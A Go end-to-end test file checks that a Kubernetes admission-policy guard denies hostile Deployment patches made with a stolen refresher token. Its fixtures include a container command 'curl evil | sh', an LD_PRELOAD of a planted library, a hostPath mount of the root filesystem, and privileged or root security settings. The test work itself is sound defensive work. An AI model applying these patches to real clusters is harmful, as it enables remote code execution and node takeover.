package e2e

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"github.com/tracebloc/image-refresh/e2e/harness"
	"github.com/tracebloc/image-refresh/internal/config"
	"github.com/tracebloc/image-refresh/internal/contract"
	"github.com/tracebloc/image-refresh/internal/contract/guard"
	"github.com/tracebloc/image-refresh/internal/testutil/tools"
)

// hostilePatch is one change a stolen refresher token might try.
type hostilePatch struct {
	name      string
	patchType types.PatchType
	patch     string
	// want is what the API server's answer must contain.
	want string
}

func strategic(template string, args ...any) string { return fmt.Sprintf(template, args...) }

// apiValidation marks a patch the API server's own validation refuses, before admission, for
// anyone: the answer is that refusal, and the cluster admin gets it too.
const apiValidation = "validation: "

// hostilePatches are the changes the guard must deny, each with the message it must give.
func hostilePatches(deployment string) []hostilePatch {
	const guard = guard.MessagePrefix
	container := func(body string) string {
		return strategic(`{"spec":{"template":{"spec":{"containers":[{"name":%q,%s}]}}}}`, harness.APIContainer, body)
	}
	pod := func(body string) string { return strategic(`{"spec":{"template":{"spec":{%s}}}}`, body) }
	digest := "sha256:" + strings.Repeat("e", 64)
	return []hostilePatch{
		{
			"image",
			types.StrategicMergePatchType,
			container(`"image":"registry.example/evil:latest"`),
			guard + "container api image may not change",
		},
		{
			"command",
			types.StrategicMergePatchType,
			container(`"command":["/bin/sh","-c","curl evil | sh"]`),
			guard + "container api command may not change",
		},
		{"args", types.StrategicMergePatchType, container(`"args":["--evil"]`), guard + "container api args may not change"},
		{
			"an extra container",
			types.StrategicMergePatchType,
			pod(`"containers":[{"name":"evil","image":"registry.example/evil"}]`),
			guard + "containers may not be added, removed, renamed or reordered",
		},
		{
			"an init container",
			types.StrategicMergePatchType,
			pod(`"initContainers":[{"name":"evil","image":"registry.example/evil"}]`),
			guard + "spec.template.spec.initContainers may not change",
		},
		{
			"serviceAccountName",
			types.StrategicMergePatchType,
			pod(`"serviceAccountName":"default"`),
			guard + "spec.template.spec.serviceAccountName may not change",
		},
		{
			"a hostPath volume",
			types.StrategicMergePatchType,
			pod(`"volumes":[{"name":"root","hostPath":{"path":"/"}}]`),
			guard + "spec.template.spec.volumes may not change",
		},
		// This API server refuses privileged containers itself (--allow-privileged=false), before admission.
		{
			"securityContext privileged",
			types.StrategicMergePatchType,
			container(`"securityContext":{"privileged":true,"allowPrivilegeEscalation":true}`),
			apiValidation + "disallowed by cluster policy",
		},
		{
			"securityContext runAsUser 0",
			types.StrategicMergePatchType,
			container(`"securityContext":{"runAsUser":0,"runAsNonRoot":false}`),
			guard + "container api securityContext may not change",
		},
		{
			"securityContext capabilities SYS_ADMIN",
			types.StrategicMergePatchType,
			container(`"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}`),
			guard + "container api securityContext may not change",
		},
		{
			"pod securityContext runAsUser 0",
			types.StrategicMergePatchType,
			pod(`"securityContext":{"runAsUser":0}`),
			guard + "spec.template.spec.securityContext may not change",
		},
		{
			"hostNetwork",
			types.StrategicMergePatchType,
			pod(`"hostNetwork":true`),
			guard + "spec.template.spec.hostNetwork may not change",
		},
		{
			"nodeSelector",
			types.StrategicMergePatchType,
			pod(`"nodeSelector":{"kubernetes.io/hostname":"control-plane"}`),
			guard + "spec.template.spec.nodeSelector may not change",
		},
		{
			"tolerations",
			types.StrategicMergePatchType,
			pod(`"tolerations":[{"operator":"Exists"}]`),
			guard + "spec.template.spec.tolerations may not change",
		},
		{
			"another env var",
			types.StrategicMergePatchType,
			container(`"env":[{"name":"LD_PRELOAD","value":"/tmp/evil.so"}]`),
			guard + "container api env may change only in " + harness.DigestEnv,
		},
		{
			"the env var to a non-digest",
			types.StrategicMergePatchType,
			container(strategic(`"env":[{"name":%q,"value":"registry.example/evil:latest"}]`, harness.DigestEnv)),
			guard + "container api env " + harness.DigestEnv + " may only be set to a sha256 digest",
		},
		{
			"the env var to valueFrom",
			types.StrategicMergePatchType,
			container(
				strategic(
					`"env":[{"name":%q,"value":null,"valueFrom":{"fieldRef":{"fieldPath":"metadata.name"}}}]`,
					harness.DigestEnv,
				),
			),
			guard + "container api env " + harness.DigestEnv + " may only be set to a sha256 digest",
		},
		{
			"the env var removed",
			types.StrategicMergePatchType,
			container(strategic(`"env":[{"name":%q,"$patch":"delete"}]`, harness.DigestEnv)),
			guard + "container api env " + harness.DigestEnv + " may only be set to a sha256 digest",
		},
		{"replicas", types.StrategicMergePatchType, `{"spec":{"replicas":5}}`, guard + "spec.replicas may not change"},
		{
			"labels",
			types.StrategicMergePatchType,
			`{"metadata":{"labels":{"evil":"true"}}}`,
			guard + "metadata.labels may not change",
		},
		{
			"selector",
			types.StrategicMergePatchType,
			`{"spec":{"selector":{"matchLabels":{"evil":"true"}},"template":{"metadata":{"labels":{"evil":"true"}}}}}`,
			apiValidation + "field is immutable",
		},
		{
			"strategy",
			types.StrategicMergePatchType,
			`{"spec":{"strategy":{"type":"Recreate","rollingUpdate":null}}}`,
			guard + "spec.strategy may not change",
		},
		{
			"pod template labels",
			types.StrategicMergePatchType,
			`{"spec":{"template":{"metadata":{"labels":{"evil":"true"}}}}}`,
			guard + "spec.template.metadata.labels may not change",
		},
		{
			"an annotation of another key",
			types.StrategicMergePatchType,
			`{"metadata":{"annotations":{"evil.example/key":"x"}}}`,
			guard + "annotation evil.example/key may not change",
		},
		{
			"a pod template annotation of another key",
			types.StrategicMergePatchType,
			`{"spec":{"template":{"metadata":{"annotations":{"evil.example/key":"x"}}}}}`,
			guard + "pod template annotation evil.example/key may not change",
		},
		{
			"the audit annotation to a non-digest",
			types.StrategicMergePatchType,
			strategic(`{"metadata":{"annotations":{%q:"latest"}}}`, harness.Ingestor.Annotation()),
			guard + "annotation " + harness.Ingestor.Annotation() + " may only be set to a sha256 digest",
		},
		{
			"the status annotation oversized",
			types.StrategicMergePatchType,
			strategic(
				`{"metadata":{"annotations":{%q:%q}}}`,
				config.StatusAnnotationPrefix+harness.Ingestor.Name,
				strings.Repeat("x", contract.StatusMaxBytes+1),
			),
			guard + "annotation " + config.StatusAnnotationPrefix + harness.Ingestor.Name + " may only be set",
		},
		{
			"restartedAt to a non-time",
			types.StrategicMergePatchType,
			strategic(`{"spec":{"template":{"metadata":{"annotations":{%q:"evil"}}}}}`, config.RestartedAtAnnotation),
			guard + "pod template annotation " + config.RestartedAtAnnotation + " may only be set to a time",
		},
		{
			"image via JSON patch",
			types.JSONPatchType,
			`[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"registry.example/evil:latest"}]`,
			guard + "container api image may not change",
		},
		{
			"the env var and the image in one JSON patch",
			types.JSONPatchType,
			strategic(
				`[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"registry.example/evil:latest"},`+
					`{"op":"add","path":"/metadata/annotations/%s","value":%q}]`,
				strings.ReplaceAll(harness.Ingestor.Annotation(), "/", "~1"),
				digest,
			),
			guard + "container api image may not change",
		},
		{
			"image via server-side apply",
			types.ApplyPatchType,
			strategic(
				`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":%q},`+
					`"spec":{"template":{"spec":{"containers":[{"name":%q,"image":"registry.example/evil:latest"}]}}}}`,
				deployment,
				harness.APIContainer,
			),
			guard + "container api image may not change",
		},
	}
}

// setImagePatches are the changes the guard must deny a release whose jobs-manager is set-image
// (container api, repository repo): its image may move only to repo@sha256:<64 hex>.
func setImagePatches(repo, podsMonitorRepo string) []hostilePatch {
	const guard = guard.MessagePrefix
	image := func(container, image string) string {
		return strategic(`{"spec":{"template":{"spec":{"containers":[{"name":%q,"image":%q}]}}}}`, container, image)
	}
	digest := "sha256:" + strings.Repeat("e", 64)
	only := guard + "container api image may only be set to " + repo + "@sha256:<64 hex>"
	return []hostilePatch{
		{
			"set-image: the image to another repository's digest",
			types.StrategicMergePatchType,
			image(harness.APIContainer, "registry.example/evil@"+digest),
			only,
		},
		{"set-image: the image to a tag", types.StrategicMergePatchType, image(harness.APIContainer, repo+":evil"), only},
		{
			"set-image: the image to a tag and digest",
			types.StrategicMergePatchType,
			image(harness.APIContainer, repo+":evil@"+digest),
			only,
		},
		{
			"set-image: another container's image to its digest",
			types.StrategicMergePatchType,
			image(harness.PodsMonitor.Name, podsMonitorRepo+"@"+digest),
			guard + "container " + harness.PodsMonitor.Name + " may not change",
		},
		{"set-image: the image to a digest with a command", types.StrategicMergePatchType,
			strategic(
				`{"spec":{"template":{"spec":{"containers":[{"name":%q,"image":%q,"command":["/evil"]}]}}}}`,
				harness.APIContainer,
				repo+"@"+digest,
			),
			guard + "container api command may not change"},
	}
}

// TestAdmissionGuard: with the refresher's own token, every hostile patch is denied by the
// API server with the guard's message; the same patches as cluster admin pass (dry run: the
// guard binds only the refresher); the refresher's own writes (record, fill, update-env,
// restart, status) pass; helm uninstall removes the guard. A second release, its jobs-manager
// set-image, gets the set-image patches: only the image to <repository>@sha256:… passes.
// docs/refresher.md's table of the patches and answers is generated from it (-update).
func TestAdmissionGuard(t *testing.T) {
	w := setup(t)
	r := newRelease(t, w, tools.Helm3, w.registry)
	r.install()
	ctx := t.Context()
	guardName := guard.Name(releaseName+"-image-refresh", r.Namespace)
	policy, err := w.cluster.Client.AdmissionregistrationV1().
		ValidatingAdmissionPolicies().
		Get(ctx, guardName, metav1.GetOptions{})
	if err != nil {
		t.Fatalf("the guard policy %s: %v", guardName, err)
	}
	if _, err := w.cluster.Client.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Get(
		ctx, guardName, metav1.GetOptions{},
	); err != nil {
		t.Fatalf("the guard binding %s: %v", guardName, err)
	}
	if tc := policy.Status.TypeChecking; tc != nil && len(tc.ExpressionWarnings) > 0 {
		t.Logf("type checking warnings of %s: %+v", guardName, tc.ExpressionWarnings)
	}

	// stolenToken is a client with the token of a release's refresher ServiceAccount.
	stolenToken := func(r *release) kubernetes.Interface {
		pod := r.cronJobPod()
		tr, err := w.cluster.Client.CoreV1().ServiceAccounts(r.Namespace).CreateToken(ctx, pod.ServiceAccount,
			&authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{}}, metav1.CreateOptions{})
		if err != nil {
			t.Fatal(err)
		}
		c, err := kubernetes.NewForConfig(w.cluster.RESTConfig(tr.Status.Token))
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	stolen := stolenToken(r)
	deployments := func(c kubernetes.Interface, r *release) func(p hostilePatch, dryRun bool) error {
		return func(p hostilePatch, dryRun bool) error {
			opts := metav1.PatchOptions{FieldManager: "evil"}
			if p.patchType == types.ApplyPatchType {
				opts.Force = new(true)
			}
			if dryRun {
				opts.DryRun = []string{metav1.DryRunAll}
			}
			_, err := c.AppsV1().Deployments(r.Namespace).Patch(ctx, deployName, p.patchType, []byte(p.patch), opts)
			return err
		}
	}
	// The API server enforces a new policy once its admission plugin has compiled it, a moment
	// after the create: wait for that before anything counts (see waitGuardEnforced).
	asRefresher, asAdmin := deployments(stolen, r), deployments(w.cluster.Client, r)
	t.Logf("guard enforced %s after the install returned", waitGuardEnforced(t, asRefresher))

	// The refresher's own writes pass: record and fill, then update-env, then restart.
	r.refreshOK()
	for _, img := range []harness.Image{ingestor, jobsManager} {
		digest := r.push(img)
		r.refreshOK()
		if got := r.state().Annotation(img); got != digest {
			t.Fatalf("with the guard, %s = %q after a push of %s, want it", img.Annotation(), got, digest)
		}
	}
	if got, _ := r.state().Env(digestEnv); got != r.Digest[ingestor] {
		t.Errorf("with the guard, %s = %q, want %s", digestEnv, got, r.Digest[ingestor])
	}

	var table strings.Builder
	table.WriteString(
		"| hostile patch (refresher's token) | type | API server's answer | as cluster admin (dry run) |\n" +
			"|---|---|---|---|\n",
	)
	before := r.state()
	for _, p := range hostilePatches(deployName) {
		denyOne(t, p, asRefresher, asAdmin, r.Namespace, w.registry.Host, &table)
	}
	checkUnchanged(t, "the hostile patches", before, r.state())

	// What the refresher may do, with its token, passes (dry run).
	for _, p := range []hostilePatch{
		{name: "the env var to a digest", patchType: types.StrategicMergePatchType,
			patch: strategic(`{"spec":{"template":{"spec":{"containers":`+
				`[{"name":%q,"env":[{"name":%q,"value":"sha256:%s"}]}]}}}}`,
				harness.APIContainer, harness.DigestEnv, strings.Repeat("a", 64))},
		{name: "the audit annotation to a digest", patchType: types.StrategicMergePatchType,
			patch: strategic(`{"metadata":{"annotations":{%q:"sha256:%s"}}}`,
				harness.Ingestor.Annotation(), strings.Repeat("b", 64))},
		{name: "restartedAt to a time", patchType: types.StrategicMergePatchType,
			patch: strategic(`{"spec":{"template":{"metadata":{"annotations":{%q:"2026-12-07T12:00:00Z"}}}}}`,
				config.RestartedAtAnnotation)},
	} {
		if err := asRefresher(p, true); err != nil {
			t.Errorf("%s as the refresher (dry run): %v; want allowed", p.name, err)
		}
	}

	// A second release, its jobs-manager set-image: container api's image may move only to
	// <repository>@sha256:…, which the refresher writes with the audit annotation in one patch.
	si := newRelease(t, w, tools.Helm3, w.registry)
	si.install("--set", "images.jobsManager.action=set-image")
	siRefresher, siAdmin := deployments(stolenToken(si), si), deployments(w.cluster.Client, si)
	t.Logf("set-image release: guard enforced %s after the install returned", waitGuardEnforced(t, siRefresher))
	repo := si.Registry.Repository(si.Repo(jobsManager))
	siBefore := si.state()
	for _, p := range setImagePatches(repo, si.Registry.Repository(si.Repo(podsMonitor))) {
		denyOne(t, p, siRefresher, siAdmin, si.Namespace, w.registry.Host, &table)
	}
	checkUnchanged(t, "the set-image hostile patches", siBefore, si.state())
	checkDocSection(t, "guard-patches", "TestAdmissionGuard", table.String())
	pinned := repo + "@sha256:" + strings.Repeat("c", 64)
	for _, p := range []hostilePatch{
		{name: "the image to repository@digest and the audit annotation to its digest",
			patchType: types.StrategicMergePatchType,
			patch: strategic(`{"metadata":{"annotations":{%q:%q}},`+
				`"spec":{"template":{"spec":{"containers":[{"name":%q,"image":%q}]}}}}`,
				jobsManager.Annotation(), "sha256:"+strings.Repeat("c", 64), harness.APIContainer, pinned)},
		{name: "the image to repository@digest by JSON patch", patchType: types.JSONPatchType,
			patch: strategic(`[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":%q}]`, pinned)},
	} {
		if err := siRefresher(p, true); err != nil {
			t.Errorf("set-image release: %s as the refresher (dry run): %v; want allowed", p.name, err)
		}
	}

	for _, r := range []*release{r, si} {
		if res := r.helmRun("uninstall", releaseName, "--namespace", r.Namespace, "--wait"); res.ExitCode != 0 {
			t.Fatalf("helm uninstall: %s", res)
		}
	}
	if _, err := w.cluster.Client.AdmissionregistrationV1().ValidatingAdmissionPolicies().Get(
		ctx, guardName, metav1.GetOptions{},
	); err == nil {
		t.Errorf("helm uninstall left the guard policy %s", guardName)
	}
	if _, err := w.cluster.Client.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Get(
		ctx, guardName, metav1.GetOptions{},
	); err == nil {
		t.Errorf("helm uninstall left the guard binding %s", guardName)
	}
}

// denyOne applies a hostile patch with the refresher's token, which must be denied with its
// message, and as cluster admin (dry run), which must pass; it adds the patch's row to table.
func denyOne(
	t *testing.T,
	p hostilePatch,
	asRefresher, asAdmin func(hostilePatch, bool) error,
	namespace, registry string,
	table *strings.Builder,
) {
	t.Helper()
	err := asRefresher(p, false)
	answer := "allowed"
	if err != nil {
		answer = err.Error()
	}
	want, byValidation := strings.CutPrefix(p.want, apiValidation)
	if err == nil || !strings.Contains(answer, want) {
		t.Errorf("%s as the refresher: %s; want denied with %q", p.name, answer, want)
	}
	admin := "allowed"
	if err := asAdmin(p, true); err != nil {
		admin = err.Error()
		if byValidation && strings.Contains(admin, want) {
			admin = "refused by the API server's own validation, as above (before admission)"
		} else {
			t.Errorf("%s as cluster admin (dry run): %v; want allowed", p.name, err)
		}
	} else if byValidation {
		t.Errorf("%s as cluster admin (dry run): allowed; want the API server's own refusal %q", p.name, want)
	}
	fmt.Fprintf(
		table,
		"| %s | %s | %s | %s |\n",
		p.name,
		patchTypeName(p.patchType),
		tableCell(answer, namespace, registry),
		admin,
	)
}

// waitGuardEnforced waits until the API server denies a change of labels made with the
// refresher's token (a dry run), and returns how long that took. A policy is enforced once the
// admission plugin's informer has seen and compiled it, asynchronously after its create: in that
// window (about a second here) the token is as powerful as without the guard.
func waitGuardEnforced(t *testing.T, patch func(hostilePatch, bool) error) time.Duration {
	t.Helper()
	began := time.Now()
	probe := hostilePatch{
		name:      "probe",
		patchType: types.StrategicMergePatchType,
		patch:     `{"metadata":{"labels":{"probe":"x"}}}`,
	}
	for {
		err := patch(probe, true)
		if err != nil && strings.Contains(err.Error(), guard.MessagePrefix) {
			return time.Since(began).Round(10 * time.Millisecond)
		}
		if time.Since(began) > 60*time.Second {
			t.Fatalf("the guard is not enforced 60s after the install: a label change as the refresher answers %v", err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func patchTypeName(t types.PatchType) string {
	switch t {
	case types.JSONPatchType:
		return "JSON patch"
	case types.ApplyPatchType:
		return "server-side apply"
	default:
		return "strategic merge"
	}
}

// tableCell is an answer without the parts that change per run (namespace, registry host), fit
// for a Markdown cell.
func tableCell(answer, namespace, registry string) string {
	answer = strings.ReplaceAll(answer, registry, "<registry>")
	answer = strings.ReplaceAll(answer, namespace, "<namespace>")
	return strings.ReplaceAll(answer, "|", `\|`)
}

// TestAdmissionGuardNeedsClusterRights: an installer whose rights end at its namespace cannot
// create the cluster-scoped guard. The install fails before anything is created (Helm reads
// every object first, and that read is refused), saying so; with the guard turned off the same
// installer installs.
func TestAdmissionGuardNeedsClusterRights(t *testing.T) {
	for _, tool := range []string{tools.Helm3, tools.Helm4} {
		t.Run(tool, func(t *testing.T) { testGuardNeedsClusterRights(t, tool) })
	}
}

func testGuardNeedsClusterRights(t *testing.T, tool string) {
	w := setup(t)
	r := newRelease(t, w, tool, w.registry)
	ctx := t.Context()
	client := w.cluster.Client
	const installer = "installer"
	if _, err := client.CoreV1().ServiceAccounts(r.Namespace).Create(
		ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: installer}}, metav1.CreateOptions{},
	); err != nil {
		t.Fatal(err)
	}
	// cluster-admin bound by a RoleBinding: everything in the namespace, nothing beyond it.
	if _, err := client.RbacV1().RoleBindings(r.Namespace).Create(ctx, &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: installer},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: installer, Namespace: r.Namespace}},
	}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	tr, err := client.CoreV1().
		ServiceAccounts(r.Namespace).
		CreateToken(ctx, installer, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	kubeconfig := filepath.Join(t.TempDir(), "kubeconfig")
	if err := w.cluster.WriteKubeconfig(kubeconfig, installer, tr.Status.Token, r.Namespace); err != nil {
		t.Fatal(err)
	}
	// The release's own Helm homes: for Helm 4 they hold the installed post-renderer plugin.
	helm := r.Helm.WithKubeconfig(kubeconfig)
	install := func(extra ...string) *harness.Result {
		args := append(
			[]string{"install", releaseName, r.Chart, "--namespace", r.Namespace, "--post-renderer", r.PostRenderer},
			r.Values()...)
		res, err := helm.Try(ctx, append(args, extra...)...)
		if err != nil {
			t.Fatal(err)
		}
		return res
	}

	res := install()
	t.Logf("namespace-limited install with the guard: exit %d\n%s", res.ExitCode, res.Stderr)
	if res.ExitCode == 0 || !strings.Contains(res.Stderr, "validatingadmissionpolicies") ||
		!strings.Contains(res.Stderr, "forbidden") {
		t.Fatalf(
			"a namespace-limited install with the guard: exit %d, want a failure naming validatingadmissionpolicies "+
				"as forbidden:\n%s",
			res.ExitCode,
			res,
		)
	}
	deps, err := client.AppsV1().Deployments(r.Namespace).List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	cronJobs, err := client.BatchV1().CronJobs(r.Namespace).List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	roles, err := client.RbacV1().Roles(r.Namespace).List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(deps.Items)+len(cronJobs.Items)+len(roles.Items) > 0 {
		t.Errorf(
			"the refused install left %d Deployments, %d CronJobs, %d Roles behind",
			len(deps.Items),
			len(cronJobs.Items),
			len(roles.Items),
		)
	}

	if res := install("--set", "imageRefresh.admissionGuard=false"); res.ExitCode != 0 {
		t.Fatalf("a namespace-limited install with the guard off: %s", res)
	}
	if _, err := client.BatchV1().CronJobs(r.Namespace).Get(
		ctx, releaseName+"-image-refresh", metav1.GetOptions{},
	); err != nil {
		t.Errorf("the install with the guard off has no CronJob: %v", err)
	}
	guard := guard.Name(releaseName+"-image-refresh", r.Namespace)
	if _, err := client.AdmissionregistrationV1().ValidatingAdmissionPolicies().Get(
		ctx, guard, metav1.GetOptions{},
	); err == nil {
		t.Errorf("the install with the guard off has the guard %s", guard)
	}
}
